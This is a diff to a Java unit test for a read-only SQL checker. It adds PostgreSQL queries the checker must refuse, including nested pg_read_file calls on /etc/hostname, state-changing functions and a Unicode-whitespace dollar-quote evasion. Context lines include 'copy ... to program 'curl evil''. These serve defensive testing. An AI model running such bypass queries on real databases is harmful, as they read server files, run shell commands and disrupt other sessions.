@@ -51,6 +51,7 @@ class ReadOnlyCheckTest {
             "with i as (insert into posts default values returning *) select 1",
             "explain analyze delete from posts",
             "explain (analyze) update posts set title = ''",
+            "explain (\"analyze\") insert into posts default values",
             "copy posts to program 'curl evil'",
             "lock table posts",
             "do $$ begin delete from posts; end $$",
@@ -90,7 +91,15 @@ class ReadOnlyCheckTest {
             "select pg_cancel_backend(1)",
             "select pg_notify('c', 'x')",
             "select U&\"\\0070g_read_file\"('x')",
-            "select pg_read_file /* sneaky */ ('x')"})
+            "select pg_read_file /* sneaky */ ('x')",
+            "select * from ts_stat('select to_tsvector(pg_read_file(''/etc/hostname''))')",
+            "select ts_rewrite('a'::tsquery, 'select ''a''::tsquery, to_tsquery(''b'')')",
+            "select pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')",
+            "select gin_clean_pending_list('gi')",
+            "select txid_current()",
+            "select pg_stat_reset_subscription_stats(null)",
+            "select * from pg_logical_slot_get_binary_changes('s', null, null)",
+            "select (1)\u2003$$, pg_terminate_backend(1) as x$$"})
     void functionsThatReachOutsideOrChangeStateAreRefused(String sql) {
         assertThat(refusal(sql)).isEqualTo(ErrorCode.FUNCTION_NOT_ALLOWED);
     }
